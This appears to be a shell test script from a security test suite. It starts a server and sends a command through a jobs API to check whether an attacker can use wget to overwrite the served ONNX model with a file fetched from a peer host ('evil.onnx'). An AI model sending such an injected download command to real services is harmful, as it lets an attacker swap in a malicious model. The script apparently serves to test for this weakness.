# Through a jobs API, the attacker replaces the model with wget.
. "$LIB/common.sh"
start_server
exploit /jobs "wget -q -O $WORK/srv/models/model.onnx http://$PEER/evil.onnx"
stop_server
